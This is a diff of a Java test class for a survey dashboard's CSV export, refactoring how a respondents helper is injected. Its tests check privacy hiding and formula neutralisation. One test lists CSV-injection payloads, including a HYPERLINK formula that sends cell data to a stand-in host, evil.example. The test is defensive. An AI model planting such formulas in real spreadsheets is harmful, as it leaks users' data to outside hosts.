@@ -3,7 +3,6 @@ package nl.samenspraak.dashboard;
 import io.micronaut.runtime.server.EmbeddedServer;
 import nl.samenspraak.support.SharedService;
 import jakarta.inject.Inject;
-import nl.samenspraak.conversation.ConversationService;
 import nl.samenspraak.conversation.Origin;
 import nl.samenspraak.security.Account;
 import nl.samenspraak.security.Accounts;
@@ -60,7 +59,7 @@ class ExportTest {
     @Inject
     Teams teams;
     @Inject
-    ConversationService service;
+    Respondents respondents;
     @Inject
     ConversationRepository conversations;
     @Inject
@@ -78,7 +77,6 @@ class ExportTest {
         Account manager = accounts.create("export-" + UUID.randomUUID().toString().substring(0, 8), PASSWORD, Role.MANAGER);
         teams.addMember(team.id(), manager.id());
         cookie = http.login(manager.username(), PASSWORD);
-        Respondents respondents = new Respondents(service);
         for (String text : TURKISH) {
             ids.add(respondents.finish(FLOW, "tr", Origin.team(team.id()), Map.of("opmerking", text, "vaardig_tolk", "tolk")));
         }
@@ -166,7 +164,7 @@ class ExportTest {
 
     @Test
     void aColumnThatWouldSingleSomeoneOutIsHidden() {
-        new Respondents(service).finish(FLOW, "pl", Origin.team(team.id()), Map.of("opmerking", "Dziękuję"));
+        respondents.finish(FLOW, "pl", Origin.team(team.id()), Map.of("opmerking", "Dziękuję"));
         String csv = new String(download("csv", "text/csv"), StandardCharsets.UTF_8);
         assertTrue(csv.contains("Dziękuję"), "eleven wrote a remark, so the remarks are there");
         assertFalse(csv.contains(";pl;"), "but not that one person answered in Polish");
@@ -180,7 +178,6 @@ class ExportTest {
     @Test
     void formulasTypedByRespondentsDoNotRunInTheCsv() {
         List<String> payloads = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")", "=1+1", "+1+1", "-2+3", "@SUM(1+1)");
-        Respondents respondents = new Respondents(service);
         for (String payload : payloads) {
             respondents.finish(FLOW, "nl", Origin.team(team.id()), Map.of("opmerking", payload));
         }
